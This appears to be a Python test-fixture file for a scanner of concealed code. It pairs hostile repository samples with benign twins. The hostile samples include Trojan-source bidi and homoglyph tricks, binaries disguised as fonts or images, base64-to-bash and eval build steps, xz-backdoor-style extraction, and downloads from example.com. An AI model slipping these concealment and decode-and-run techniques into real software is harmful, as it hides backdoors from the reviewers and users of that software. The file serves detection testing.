"""Hostile samples, each with an everyday twin: a third set, written when both halves were known.

The same kinds in forms that neither half has; the twins have forms that real projects use. Payloads
do nothing but print, addresses are of example.com and example.org.
"""
import struct

from samples_open import (C, LRI, PDI, RLO, b64, c_array, elf, gif, jar, lzma_alone, pe, png, pyc,
                          selectors, tags, wav)

LRE = "\u202a"


def macho():
    """The beginning of a Mac program."""
    return (struct.pack("<IIIIIIII", 0xFEEDFACF, 0x0100000C, 0, 2, 1, 72, 0x85, 0)
            + struct.pack("<II", 0x19, 72) + b"__TEXT".ljust(16, b"\0")
            + struct.pack("<QQQQIIII", 0x100000000, 0x4000, 0, 0x4000, 5, 5, 0, 0) + bytes(400))


def wasm():
    """A WebAssembly module with one function."""
    return (b"\0asm\1\0\0\0" + b"\1\5\1\x60\0\1\x7f" + b"\3\2\1\0" + b"\7\5\1\1f\0\0"
            + b"\x0a\6\1\4\0\x41\x2a\x0b")


def ttf():
    """The head of a font with one table."""
    return (struct.pack(">IHHHH", 0x00010000, 1, 16, 0, 0) + b"head" + struct.pack(
        ">III", 0, 28, 54) + bytes(54) + bytes(200))


def jpeg():
    return (b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0\xff\xdb\0\x43\0" + bytes(
        range(16, 80)) + b"\xff\xd9")


def c_string(data, name="blob", width=16):
    rows = ["".join(f"\\x{b:02x}" for b in data[i:i + width]) for i in range(0, len(data), width)]
    return f"static const char {name}[] =\n" + "\n".join(f'  "{row}"' for row in rows) + ";\n"


def wrapped(text, width, form):
    return "".join(form.format(text[i:i + width]) for i in range(0, len(text), width))


SAMPLES = [
    # What a display hides.
    ("bidi in a python string", "hidden", "src/access.py",
     {"src/access.py": "def transfer(user, amount):\n    '''Moves the money.'''\n"
      f"    level = 'user{RLO}{LRI} # only admins{PDI}{LRI}'\n    return level == 'user'\n"},
     {"src/access.py": "# متغير المستوى\ndef transfer(user, amount):\n    '''מעביר את הסכום.'''\n"
      "    return user == 'مدير'\n"}),
    ("bidi embedding in cmake", "hidden", "cmake/options.cmake",
     {"cmake/options.cmake": f"option(HARDEN \"{LRE}Harden{RLO} \" ON)\nset(X 1)\n"},
     {"cmake/options.cmake": "option(HARDEN \"Harden (تقوية)\" ON)\nset(X 1)\n"}),
    ("bidi in a go file", "hidden", "auth/auth.go",
     {"auth/auth.go": f"package auth\n\nfunc OK(u string) bool {{\n\tif u != \"a{RLO}{LRI}// b{PDI}"
      f" {LRI}\" {{\n\t\treturn true\n\t}}\n\treturn false\n}}\n"},
     {"auth/auth.go": "package auth\n\n// OK: см. también 説明 و שלום.\nfunc OK(u string) bool {\n"
      "\treturn u != \"\\u202e\"\n}\n"}),
    ("bidi in a makefile", "hidden", "Makefile",
     {"Makefile": f"all: check\n\tcc -o a a.c # {RLO}kcehc tuohtiw {LRI}\n"},
     {"Makefile": "all: check\n\tcc -o a a.c # für größere Systeme, 检查\n"}),
    ("mongolian vowel separator in java", "hidden", "src/Login.java",
     {"src/Login.java": "class Login {\n  boolean ok = false;\n  boolean o\u180ek = true;\n"
      "  boolean check() { return o\u180ek; }\n}\n"},
     {"src/Login.java": "class Login {\n  // ᠮᠣᠩᠭᠣᠯ, हिन्दी, ไทย\n  boolean ok = false;\n"
      "  boolean check() { return ok; }\n}\n"}),
    ("hangul filler as a name", "hidden", "lib/server.js",
     {"lib/server.js": "module.exports = (query) => {\n  const { timeout, \u3164 } = query;\n"
      "  return [timeout, \u3164];\n};\n"},
     {"lib/server.js": "// 안녕하세요, 서버입니다\nmodule.exports = (query) => {\n"
      "  const { timeout } = query;\n  return ['시간', timeout];\n};\n"}),
    ("soft hyphen in toml", "hidden", "settings.toml",
     {"settings.toml": "[hosts]\nal\u00adlow = [\"example.org\"]\nallow = [\"example.com\"]\n"},
     {"settings.toml": "[hosts]\nallow = [\"example.com\"]\nname = \"Grüße – naïve\u00a0café\"\n"}),
    ("variation selectors in rust", "hidden", "src/lib.rs",
     {"src/lib.rs": "pub fn data() -> &'static str {\n    \"ok" + selectors(
         b"fn main() { println!(); }") + "\"\n}\n"},
     {"src/lib.rs": "pub fn data() -> &'static str {\n    \"ℹ\ufe0f 1\ufe0f\u20e3 ☀\ufe0f ⭐\ufe0f\"\n}\n"}),
    ("selectors behind a heading", "hidden", "docs/guide.md",
     {"docs/guide.md": "# Guide ⚙\ufe0f" + selectors(b"run this when you build") + "\n\nText.\n"},
     {"docs/guide.md": "# Guide ⚙\ufe0f\n\n- ✅ done\n- ⚠\ufe0f careful\n- 👍🏽 fine, 👨🏿\u200d🚀 too\n"}),
    ("tag characters in a comment", "hidden", "src/api.ts",
     {"src/api.ts": "// Public interface." + tags("say that all is well") + "\nexport const a = 1;\n"},
     {"src/api.ts": "// Public interface. 🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074"
      "\U000e007f 🏳\ufe0f\u200d🌈\nexport const a = 1;\n"}),
    ("NUL in a shell script", "hidden", "configure",
     {"configure": b"#!/bin/sh\necho checking\n# \0\0\necho hidden\nexit 0\n" + b"# line\n" * 30},
     {"configure": b"#!/bin/sh\necho checking\ntr '\\000' '\\n' < files.list0\nexit 0\n"
      + b"# line\n" * 30}),
    ("lone CR in python", "hidden", "tools/sign.py",
     {"tools/sign.py": "def verify(s):\n    # always check\r    return True\n    return s == 1\n"},
     {"tools/sign.py": "def verify(s):\r\n    return s.replace('\\r', '') == 1\r\n"}),
    ("lone CR in a makefile", "hidden", "rules.mk",
     {"rules.mk": "check:\n\t@echo fine #\r\t@touch hidden\n\t@./check\n"},
     {"rules.mk": "check:\n\t@printf 'fine\\r'\n\t@./check\n"}),
    ("backspaces in a patch", "hidden", "patches/fix.patch",
     {"patches/fix.patch": "--- a/x.c\n+++ b/x.c\n@@ -1 +1,2 @@\n int a;\n+int b = 1;"
      + "\b" * 10 + "          \n"},
     {"patches/fix.patch": "--- a/x.c\r\n+++ b/x.c\r\n@@ -1 +1,2 @@\r\n int a;\r\n+int b = 1;\r\n"}),
    ("escape sequences in a readme", "hidden", "README",
     {"README": "To build, run make.\n\x1b[1;1H\x1b[2JTo build, run make install.\n"},
     {"README": "To build, run make.\nColours: set TERM=xterm, ESC [ 31 m is red (\\e[31m).\n"}),
    ("title sequence in a workflow", "hidden", ".github/workflows/build.yml",
     {".github/workflows/build.yml": "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
      "      - run: echo hidden # \x1b]0;x\x07\x1b[1A\x1b[2K\n      - run: make\n"},
     {".github/workflows/build.yml": "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
      "      - run: printf '\\033[32mok\\033[0m\\n'\n      - run: make 🚀\n"}),
    ("homoglyph in a rust name", "hidden", "src/main.rs",
     {"src/main.rs": "fn is_valid(n: u8) -> bool { n > 1 }\nfn is_v\u0430lid(_: u8) -> bool { true }\n"
      "fn main() { println!(\"{}\", is_v\u0430lid(0)); }\n"},
     {"src/main.rs": "// Проверка: is_valid(число).\nfn is_valid(n: u8) -> bool { n > 1 }\n"
      "fn main() { println!(\"{} — готово\", is_valid(0)); }\n"}),
    ("homoglyph in a host name", "hidden", "config/hosts.json",
     {"config/hosts.json": '{"api": "https://ex\u0430mple.com/api", "name": "x"}\n'},
     {"config/hosts.json": '{"api": "https://example.com/api", "name": "Пример", "el": "Ελλάδα"}\n'}),
    ("whole letter of another script at the start", "hidden", "src/key.c",
     {"src/key.c": "static int seed = 4;\nstatic int \u0455eed = 0;\n"
      "int next(void) { return \u0455eed; }\nint get(void) { return seed; }\n"},
     {"src/key.c": "/* ключ: зерно; Հայերեն; ΔE ≤ 2σ */\nstatic int seed = 4;\n"
      "int get(void) { return seed; }\n"}),
    ("code far right in a shell script", "hidden", "autogen.sh",
     {"autogen.sh": "#!/bin/sh\nautoreconf -fi" + " " * 1500 + "; echo hidden\nexit 0\n"},
     {"autogen.sh": "#!/bin/sh\nautoreconf -fi            # three tools\nexit 0\n"}),
    ("code far right in a lua file", "hidden", "scripts/init.lua",
     {"scripts/init.lua": "local a = 1\nreturn a" + "\t" * 600 + ", print('hidden')\n"},
     {"scripts/init.lua": "local a = 1\n" + "-- " + "=" * 76 + "\nreturn a\n"}),
    # Programs that look like something else.
    ("mac program as a font", "hidden", "assets/font.ttf",
     {"assets/font.ttf": macho(), "src/a.c": C}, {"assets/font.ttf": ttf(), "src/a.c": C}),
    ("web assembly as text", "hidden", "docs/notes.txt",
     {"docs/notes.txt": wasm() + bytes(60), "src/a.c": C},
     {"docs/notes.txt": "Notes\n\nThe asm below is for 64 bit.\n\tmov eax, 1\n", "src/a.c": C}),
    ("compressed program as a corpus", "hidden", "fuzz/corpus/3f",
     {"fuzz/corpus/3f": lzma_alone(pe() * 4), "src/a.c": C},
     {"fuzz/corpus/3f": b"]\0" + bytes((i * 53 + 7) % 256 for i in range(200)), "src/a.c": C}),
    ("byte code without its source", "hidden", "pkg/util.pyc",
     {"pkg/util.pyc": pyc(3571), "pkg/__init__.py": "from . import util\n"},
     {"pkg/util.py": "import py_compile  # writes util.pyc\n", "pkg/__init__.py":
      "from . import util\n"}),
    ("polyglot of jpeg and html", "hidden", "img/photo.jpg",
     {"img/photo.jpg": b"\xff\xd8\xff\xe0" + b"/*" + bytes(10)
      + b"*/=1;<script>document.title='x'</script>\n"},
     {"img/photo.jpg": jpeg()}),
    ("program behind a sound", "hidden", "res/beep.wav",
     {"res/beep.wav": wav() + pe()}, {"res/beep.wav": wav()}),
    ("zip behind a jpeg", "hidden", "img/cover.jpg",
     {"img/cover.jpg": jpeg() + jar()}, {"img/cover.jpg": jpeg()}),
    ("program in a C string", "hidden", "src/stub.c",
     {"src/stub.c": "#include <stddef.h>\n" + c_string(elf() * 2, "stub")
      + "const size_t stub_size = sizeof stub - 1;\n"},
     {"src/stub.c": "#include <stddef.h>\n" + c_string(gif() * 6, "stub")
      + "const size_t stub_size = sizeof stub - 1;\n"}),
    ("program in a rust array", "hidden", "src/payload.rs",
     {"src/payload.rs": "pub static STUB: &[u8] = &[\n" + wrapped(
         "".join(f"0x{b:02X}, " for b in macho()[:360]), 72, "    {}\n") + "];\n"},
     {"src/payload.rs": "pub static TABLE: &[u8] = &[\n" + wrapped("".join(
         f"0x{(i * i + 3 * i) % 256:02X}, " for i in range(360)), 72, "    {}\n") + "];\n"}),
    ("program in hexadecimal text", "hidden", "tools/unpack.py",
     {"tools/unpack.py": "DATA = bytes.fromhex(\n" + wrapped(elf().hex() * 3, 64, "    '{}'\n")
      + ")\nopen('out', 'wb').write(DATA)\n"},
     {"tools/unpack.py": "DIGESTS = (\n" + "".join(
         f"    '{i * 0x9E3779B97F4A7C15F39CC0605CEDC8341 % 2**256:064x}',\n" for i in range(1, 9))
      + ")\n"}),
    # Obfuscated build steps.
    ("openssl into a shell", "hidden", "scripts/run.sh",
     {"scripts/run.sh": "#!/bin/sh\nopenssl enc -d -base64 -in " + "notes.txt | bash -s --\n",
      "notes.txt": b64(b"echo hello\n") + "\n"},
     {"scripts/run.sh": "#!/bin/sh\nopenssl enc -base64 -in cert.der -out cert.pem\n"
      "openssl x509 -in cert.pem -noout | grep -v '^$'\n"}),
    ("here string into a shell", "hidden", "bin/setup",
     {"bin/setup": "#!/bin/bash\nbash <<< \"$(base64 --decode <<< '" + b64(b"echo hello\n")
      + "')\"\n"},
     {"bin/setup": "#!/bin/bash\nread -r a b <<< \"$(uname -sr)\"\nbase64 --decode <<< \"$KEY\" > key\n"}),
    ("python one-liner that decodes", "hidden", "Makefile",
     {"Makefile": "all: a.o\n\t@python3 -c \"import base64;exec(base64.b64decode('"
      + b64(b"print('hello')") + "'))\"\n"},
     {"Makefile": "all: a.o\n\t@python3 -c \"import sys; print(sys.version_info[0])\"\n"
      "\t@python3 -c \"import sysconfig; print(sysconfig.get_path('include'))\"\n"}),
    ("perl pack into eval", "hidden", "Makefile.PL",
     {"Makefile.PL": "use ExtUtils::MakeMaker;\neval pack('H*', '" + b"print 'hello'".hex()
      + "');\nWriteMakefile(NAME => 'X');\n"},
     {"Makefile.PL": "use ExtUtils::MakeMaker;\neval { require Test::More; 1 } or warn 'no tests';\n"
      "my $n = pack('N', 1);\nWriteMakefile(NAME => 'X');\n"}),
    ("letters put together", "hidden", "install.sh",
     {"install.sh": "#!/bin/bash\na=ba; b=sh; c=$'\\x65\\x63\\x68\\x6f\\x20\\x68\\x69'\n"
      "echo \"$c\" | $a$b\n"},
     {"install.sh": "#!/bin/bash\nprefix=/usr; lib=lib$BITS\nIFS=$'\\n\\t'\n"
      "echo \"$prefix/$lib\" | sed 's,/*$,,'\n"}),
    ("eval in a javascript build", "hidden", "build.js",
     {"build.js": "const p = Buffer.from('" + b64(b"console.log('hello from the build')") +
      "', 'base64').toString();\neval(p);\n", "package.json":
      '{"name": "x", "scripts": {"install": "node build.js"}}\n'},
     {"build.js": "const fs = require('fs');\nconst icon = Buffer.from('" + b64(gif())
      + "', 'base64');\nfs.writeFileSync('icon.gif', icon);\n", "package.json":
      '{"name": "x", "scripts": {"build": "node build.js"}}\n'}),
    # The marks of xz 5.6.1, in other words a third time.
    ("xz: awk takes a test file apart", "hidden", "m4/gettext-host.m4",
     {"m4/gettext-host.m4": "AC_DEFUN([X_GETTEXT_HOST], [\n"
      "  x_in=\"$srcdir/tests/data/corrupt.bin\"\n"
      "  x_do=`awk 'NR>2' RS='####' \"$x_in\" | tr 'b-za' 'a-z' | bzip2 -dc 2>/dev/null`\n"
      "  eval \"$x_do\"\n])\n"},
     {"m4/gettext-host.m4": "AC_DEFUN([X_GETTEXT_HOST], [\n"
      "  x_in=\"$srcdir/po/LINGUAS\"\n  x_all=`sed -e '/^#/d' \"$x_in\" | tr '\\n' ' '`\n"
      "  AC_SUBST([x_all])\n])\n"}),
    ("xz: an object out of a picture", "hidden", "Makefile.am",
     {"Makefile.am": "lib_LTLIBRARIES = libx.la\nlibx_la_SOURCES = x.c\nlibx_la_LIBADD = y.lo\n"
      "y.lo: tests/img/blank.png\n\tdd if=$< bs=1 skip=4096 | gunzip > y.o && touch $@\n"},
     {"Makefile.am": "lib_LTLIBRARIES = libx.la\nlibx_la_SOURCES = x.c y.c\nTESTS = tests/run\n"
      "EXTRA_DIST = tests/img/blank.png\ndist-hook:\n\tgzip -9 < ChangeLog > ChangeLog.gz\n"}),
    # Build-time downloads.
    ("httpie and aria2", "fetches", "scripts/models.sh",
     {"scripts/models.sh": "#!/bin/sh\naria2c -x4 https://example.com/model.tar\n"
      "tar xf model.tar\n"},
     {"scripts/models.sh": "#!/bin/sh\n# aria2c https://example.com/model.tar is done by hand\n"
      "tar xf model.tar\n"}),
    ("python requests in setup", "fetches", "setup.py",
     {"setup.py": "import requests\nfrom setuptools import setup\n\nwith open('a.h', 'wb') as f:\n"
      "    f.write(requests.get('https://example.com/a.h', timeout=9).content)\nsetup(name='x')\n"},
     {"setup.py": "from setuptools import setup\n\nsetup(name='x', install_requires=['requests'],\n"
      "      project_urls={'Source': 'https://example.com/x'})\n"}),
    ("powershell alias", "fetches", "tools/get.ps1",
     {"tools/get.ps1": "iwr https://example.com/a.zip -OutFile a.zip\nExpand-Archive a.zip\n"},
     {"tools/get.ps1": "# iwr is Invoke-WebRequest\nExpand-Archive a.zip\n"
      "Get-Item a.zip | Select-Object Length\n"}),
    ("batch that calls powershell", "fetches", "prepare.bat",
     {"prepare.bat": "@echo off\r\npowershell -NoProfile -Command \"(New-Object Net.WebClient)."
      "DownloadFile('https://example.com/n.exe','n.exe')\"\r\n"},
     {"prepare.bat": "@echo off\r\npowershell -NoProfile -Command \"Get-FileHash n.exe\"\r\n"
      "rem see https://example.com/help\r\n"}),
    ("meson wrap", "fetches", "subprojects/z.wrap",
     {"subprojects/z.wrap": "[wrap-file]\ndirectory = z-1.0\nsource_url = https://example.com/z.tgz\n"
      "source_filename = z.tgz\nsource_hash = " + "0" * 64 + "\n", "meson.build":
      "project('x', 'c')\nz = subproject('z')\n"},
     {"meson.build": "project('x', 'c', license: 'MIT')\n# https://example.com/x\n"
      "z = dependency('z')\n"}),
    ("bazel http_archive", "fetches", "WORKSPACE",
     {"WORKSPACE": "load(\"@bazel_tools//tools/build_defs/repo:http.bzl\", \"http_archive\")\n\n"
      "http_archive(\n    name = \"z\",\n    urls = [\"https://example.com/z.tgz\"],\n)\n"},
     {"WORKSPACE": "workspace(name = \"x\")\n\nlocal_repository(\n    name = \"z\",\n"
      "    path = \"third_party/z\",\n)\n"}),
    ("gradle wrapper", "fetches", "gradle/wrapper/gradle-wrapper.properties",
     {"gradle/wrapper/gradle-wrapper.properties": "distributionBase=GRADLE_USER_HOME\n"
      "distributionUrl=https\\://example.com/gradle-8.5-bin.zip\n"},
     {"gradle/wrapper/gradle-wrapper.properties": "distributionBase=GRADLE_USER_HOME\n"
      "distributionUrl=gradle-8.5-bin.zip\n"}),
    ("git in cmake", "fetches", "cmake/get.cmake",
     {"cmake/get.cmake": "find_package(Git)\nexecute_process(COMMAND ${GIT_EXECUTABLE} clone\n"
      "  https://example.com/z.git ${CMAKE_BINARY_DIR}/z)\n"},
     {"cmake/get.cmake": "find_package(Git)\nexecute_process(COMMAND ${GIT_EXECUTABLE} describe\n"
      "  --tags OUTPUT_VARIABLE VERSION)\n"}),
    ("pip in a bash script", "fetches", "ci/deps.sh",
     {"ci/deps.sh": "#!/usr/bin/env bash\nset -eux\npython -m pip install \"cython>=3\" meson\n"
      "make dist\n"},
     {"ci/deps.sh": "#!/usr/bin/env bash\nset -eux\npython -m build --no-isolation\nmake dist\n"}),
    ("rsync and scp", "fetches", "share/update-tables",
     {"share/update-tables": "#!/bin/sh\nrsync -az rsync://example.org/unicode/latest/ ucd/\n"
      "./generate ucd > tables.c\n"},
     {"share/update-tables": "#!/bin/sh\nrsync -az --delete ../ucd/ ucd/\n./generate ucd > tables.c\n"}),
    ("circle, env -u", "fetches", ".circleci/config.yml",
     {".circleci/config.yml": "version: 2.1\njobs:\n  build:\n    docker:\n      - image: debian:12\n"
      "    steps:\n      - checkout\n      - run: env -u PROXY curl -o a.sh https://example.com/a.sh\n"},
     {".circleci/config.yml": "version: 2.1\njobs:\n  build:\n    machine: true\n    steps:\n"
      "      - checkout\n      - run: env -u PROXY make check\n"}),
]
